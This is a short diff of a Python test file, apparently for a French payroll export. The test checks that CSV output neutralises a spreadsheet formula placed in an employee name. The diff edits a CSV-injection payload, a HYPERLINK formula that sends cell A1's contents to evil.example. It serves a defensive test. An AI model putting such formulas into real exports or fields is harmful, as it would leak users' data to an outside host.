@@ -143,7 +143,7 @@ def test_due_as_json_and_csv_carry_the_abondement():
     assert all(row["libelle"] == row["libelle"].strip() and "…" not in row["libelle"] for row in rows)
 
 
-HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Ici")'  # a matricule: 50 characters at most
 
 
 def test_due_as_csv_neutralises_a_formula_in_an_employee_name(tmp_path):
